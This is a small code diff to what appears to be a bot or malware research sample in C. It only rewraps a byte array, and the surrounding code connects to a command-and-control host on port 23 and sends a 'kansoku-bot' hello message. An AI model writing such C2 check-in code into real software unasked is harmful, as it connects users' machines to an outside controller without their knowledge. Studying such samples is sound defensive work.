@@ -71,7 +71,8 @@ int main(int argc, char** argv) {
         c2 = kFallbackC2;
     int fd = sample_connect(c2, 23, 2000);
     if (fd >= 0) {
-        static const uint8_t kHello[] = {0x00, 0x00, 0x00, 0x01, 11, 'k', 'a', 'n', 's', 'o', 'k', 'u', '-', 'b', 'o', 't'};
+        static const uint8_t kHello[] = {0x00, 0x00, 0x00, 0x01, 11,  'k', 'a', 'n',
+                                         's',  'o',  'k',  'u',  '-', 'b', 'o', 't'};
         ssize_t sent = send(fd, kHello, sizeof kHello, MSG_NOSIGNAL);
         sample_log("c2: hello sent to %s:23 (%zd bytes)", sample_ip_text(c2, text, sizeof text), sent);
         close(fd);
